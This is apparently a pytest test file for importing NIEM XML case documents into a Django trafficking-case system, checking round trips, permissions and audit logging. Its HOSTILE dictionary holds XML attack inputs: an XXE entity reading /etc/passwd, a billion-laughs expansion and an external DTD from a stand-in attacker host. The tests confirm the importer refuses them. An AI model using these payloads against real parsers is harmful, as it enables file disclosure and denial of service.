"""Import: round trips keep every mapped field; hostile or invalid documents write nothing."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied

from cpnav.accounts.models import Agency, Level, Role, User
from cpnav.audit.models import AuditEvent
from cpnav.cases.models import Case, CPRequest, Person, Status
from cpnav.niem import reader, schema, services
from cpnav.niem.schema import InvalidDocument
from tests.conftest import MakeUser
from tests.niem.conftest import Records, http
from tests.route import Route

PERSON_FIELDS = (
    "full_name", "aliases", "date_of_birth", "age_estimate", "citizenship", "country", "languages",
    "interpreter_needed", "a_number", "contact", "do_not_contact", "safe_contact",
    "minor_identified_at", "hhs_notified_at",
)  # fmt: skip
CASE_FIELDS = (
    "case_number", "trafficking_forms", "criminal_status", "civil_court", "civil_number",
    "civil_filed_on", "civil_status",
)  # fmt: skip


@pytest.fixture
def elsewhere(make_user: MakeUser) -> tuple[User, Agency]:
    """An investigator at another agency's system, receiving the document."""
    agency = Agency.objects.create(name="Receiving Police", level=Level.LOCAL, state="PA")
    return make_user("receiver@c.example", agency, (Role.INVESTIGATOR,)), agency


def _counts() -> tuple[int, int, int]:
    return Case.objects.count(), Person.objects.count(), CPRequest.objects.count()


def _export(route: Route, cp: CPRequest) -> bytes:
    user = route.investigator
    return services.export_request(http(user), user, cp, "xml", identifying=True).content


@pytest.mark.parametrize("name", ["draft", "minor", "granted", "denied", "extension"])
def test_round_trip_keeps_every_mapped_field(
    route: Route, records: Records, elsewhere: tuple[User, Agency], name: str
) -> None:
    user, agency = elsewhere
    source: CPRequest = getattr(records, name)
    imported = services.import_document(http(user), user, _export(route, source), agency)
    cp = CPRequest.objects.get(pk=imported.request.pk)
    assert cp.status == Status.DRAFT
    assert cp.kind == source.kind
    assert cp.narrative == source.narrative
    assert cp.case.agency == agency
    assert cp.case.lead_investigator == user
    assert cp.case.federal_partner == route.hsi  # matched by the sponsor's ORI
    for field in CASE_FIELDS:
        assert getattr(cp.case, field) == getattr(source.case, field), field
    for field in PERSON_FIELDS:
        assert getattr(cp.person, field) == getattr(source.person, field), field
    assert cp.person.name_dob_index == source.person.name_dob_index
    assert cp.age_group in ("minor", "adult", "unknown")
    assert cp.determination  # worked out again here
    report = {line.field: line for line in imported.report}
    assert report["Full name"].taken
    assert report["Full name"].value == ""
    assert report["Case number"].value == source.case.case_number
    if source.decisions.exists():
        assert not report["CCHT decisions"].taken
    event = AuditEvent.objects.get(action="niem.imported")
    assert event.object_id == str(cp.pk)
    assert event.actor_id == user.pk
    assert set(event.details) == {"taken", "not_taken", "redacted_source"}


def test_a_grant_document_starts_a_draft_and_says_what_was_left(
    route: Route, records: Records, elsewhere: tuple[User, Agency]
) -> None:
    user, agency = elsewhere
    content = services.export_grant(
        http(route.investigator), route.investigator, records.ended, "xml", identifying=True
    ).content
    imported = services.import_document(http(user), user, content, agency)
    assert imported.request.person.full_name == "Ended Person Synthetic"
    not_taken = [line.field for line in imported.report if not line.taken]
    assert "Grant terms, end events and papers" in not_taken


def test_the_report_lists_unmapped_values(route: Route, elsewhere: tuple[User, Agency]) -> None:
    user, agency = elsewhere
    content = _export(route, route.cp).replace(
        b"<cpnav:PersonAugmentation>",
        b"<nc:PersonContactInformation><nc:ContactInformationDescriptionText>second"
        b"</nc:ContactInformationDescriptionText></nc:PersonContactInformation>"
        b"<cpnav:PersonAugmentation>",
    )
    imported = services.import_document(http(user), user, content, agency)
    skipped = {line.field: line.note for line in imported.report if not line.taken}
    assert any(field.endswith("nc:ContactInformationDescriptionText") for field in skipped)


def _doc(route: Route) -> bytes:
    return _export(route, route.cp)


HOSTILE: dict[str, Callable[[bytes], bytes]] = {
    "external entity (XXE)": lambda doc: (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + doc.split(b"?>", 1)[1].replace(b"2026-0042", b"&xxe;")
    ),
    "billion laughs": lambda doc: (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
            for i in range(1, 10)
        )
        + b"]>"
        + doc.split(b"?>", 1)[1].replace(b"2026-0042", b"&lol9;")
    ),
    "external DTD": lambda doc: (
        b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">'
        + doc.split(b"?>", 1)[1]
    ),
    "wrong namespace": lambda doc: doc.replace(
        b"https://cpnav.example.org/ns/niem/cpnav/1.0/", b"urn:someone-else"
    ),
    "missing required element": lambda doc: doc.replace(
        b"<cpnav:RequestStatusCode>draft</cpnav:RequestStatusCode>", b""
    ),
    "unknown code": lambda doc: doc.replace(
        b"<cpnav:RequestStatusCode>draft<", b"<cpnav:RequestStatusCode>approved-by-me<"
    ),
    "huge": lambda doc: doc.replace(
        b"<cpnav:ContinuedPresenceRequest>",
        b"<cpnav:ContinuedPresenceRequest>" + b"<!--" + b"x" * schema.MAX_BYTES + b"-->",
    ),
    "not XML": lambda doc: b"name,dob\nAna,1990-01-01\n",
    "empty": lambda doc: b"   ",
    "too deep": lambda doc: doc.replace(
        b"<nc:CaseTrackingID>", b"<a>" * 60 + b"</a>" * 60 + b"<nc:CaseTrackingID>"
    ),
    "case number too long": lambda doc: doc.replace(b"2026-0042", b"9" * 61),
    "redacted (no name)": lambda doc: doc.replace(
        b"<nc:PersonFullName>Ana Synthetic-Testperson</nc:PersonFullName>", b""
    ),
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_hostile_or_invalid_documents_write_nothing(
    route: Route, elsewhere: tuple[User, Agency], kind: str
) -> None:
    user, agency = elsewhere
    before = _counts()
    with pytest.raises(InvalidDocument) as refused:
        services.import_document(http(user), user, HOSTILE[kind](_doc(route)), agency)
    assert refused.value.problems
    assert all(p.message for p in refused.value.problems)
    assert _counts() == before
    event = AuditEvent.objects.get(action="niem.import_refused")
    assert event.outcome == "failure"
    assert event.actor_id == user.pk
    assert "Ana" not in str(event.details)


def test_refusal_messages_are_clear(route: Route, elsewhere: tuple[User, Agency]) -> None:
    user, agency = elsewhere
    messages: dict[str, str] = {}
    for kind in ("external entity (XXE)", "wrong namespace", "missing required element", "huge"):
        try:
            services.import_document(http(user), user, HOSTILE[kind](_doc(route)), agency)
        except InvalidDocument as refused:
            messages[kind] = str(refused)
    assert "Document type declarations" in messages["external entity (XXE)"]
    assert "not a CP Navigator NIEM exchange" in messages["wrong namespace"]
    assert "RequestStatusCode" in messages["missing required element"]
    assert "larger than" in messages["huge"]


def test_a_case_number_already_used_writes_nothing(
    route: Route, elsewhere: tuple[User, Agency]
) -> None:
    user, agency = elsewhere
    services.import_document(http(user), user, _doc(route), agency)
    before = _counts()
    with pytest.raises(InvalidDocument, match="already has a case"):
        services.import_document(http(user), user, _doc(route), agency)
    assert _counts() == before


def test_only_into_an_agency_where_the_user_investigates(
    route: Route, elsewhere: tuple[User, Agency]
) -> None:
    user, _agency = elsewhere
    with pytest.raises(PermissionDenied):
        services.import_document(http(user), user, _doc(route), route.county)
    with pytest.raises(PermissionDenied):
        services.import_document(
            http(route.supervisor), route.supervisor, _doc(route), route.county
        )


def test_a_partner_ori_we_do_not_know_is_reported(
    route: Route, elsewhere: tuple[User, Agency]
) -> None:
    user, agency = elsewhere
    route.hsi.ori = "ZZHSI9999"
    route.hsi.save()
    content = _doc(route)
    route.hsi.ori = ""
    route.hsi.save()
    imported = services.import_document(http(user), user, content, agency)
    assert imported.request.case.federal_partner is None
    notes = {line.field: line.note for line in imported.report}
    assert "ZZHSI9999" in notes["Federal partner office"]


def test_the_sample_imports(elsewhere: tuple[User, Agency], db: Any) -> None:
    user, agency = elsewhere
    imported = services.import_document(http(user), user, schema.SAMPLE.read_bytes(), agency)
    assert imported.request.person.full_name == "Lưu Thị Ánh"
    assert imported.request.case.trafficking_forms == ["sex", "labor"]


def test_times_without_a_zone_are_taken_as_utc(elsewhere: tuple[User, Agency], db: Any) -> None:
    user, agency = elsewhere
    content = schema.SAMPLE.read_bytes().replace(b"Z</nc:DateTime>", b"</nc:DateTime>")
    imported = services.import_document(http(user), user, content, agency)
    identified = imported.request.person.minor_identified_at
    assert identified is not None
    assert identified.utcoffset() is not None
    assert identified.utcoffset().total_seconds() == 0  # type: ignore[union-attr]


def _plan(old: bytes, new: bytes) -> reader.Plan:
    content = schema.SAMPLE.read_bytes()
    assert old in content
    return reader.plan(schema.read(content.replace(old, new)))


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        (b"<nc:CaseTrackingID>2026-0077</nc:CaseTrackingID>", b"", "no case number"),
        (b"<nc:MeasureIntegerValue>16<", b"<nc:MeasureIntegerValue>200<", "not a possible age"),
        (b"<nc:Date>2026-03-02</nc:Date>", b"<nc:Date>1066-10-14</nc:Date>", "not a possible date"),
    ],
)
def test_values_our_records_cannot_hold_are_problems(old: bytes, new: bytes, problem: str) -> None:
    found = _plan(old, new).problems
    assert any(problem in p.message for p in found), found


def test_values_we_do_not_know_are_reported_not_taken() -> None:
    plan = _plan(
        b"<nc:StatusText>charged</nc:StatusText>", b"<nc:StatusText>on appeal</nc:StatusText>"
    )
    assert "criminal_status" not in plan.case
    notes = [line.note for line in plan.report if not line.taken]
    assert any("on appeal" in note for note in notes)
    plan = _plan(b"sex trafficking", b"forced begging")
    assert plan.case["trafficking_forms"] == ["labor"]
    plan = _plan(
        b"<nc:StatusText>pending</nc:StatusText>", b"<nc:StatusText>stayed</nc:StatusText>"
    )
    assert "civil_status" not in plan.case


def test_a_minor_date_without_a_time_is_not_taken() -> None:
    content = schema.SAMPLE.read_bytes()
    start = content.index(b"<cpnav:PersonPossibleMinorIdentificationDate>")
    end = content.index(b"</cpnav:PersonPossibleMinorIdentificationDate>")
    changed = (
        content[:start]
        + b"<cpnav:PersonPossibleMinorIdentificationDate><nc:Date>2026-11-01</nc:Date>"
        + content[end:]
    )
    plan = reader.plan(schema.read(changed))
    assert "minor_identified_at" not in plan.person
    assert any(
        line.field == "Possible minor identified at" and not line.taken for line in plan.report
    )
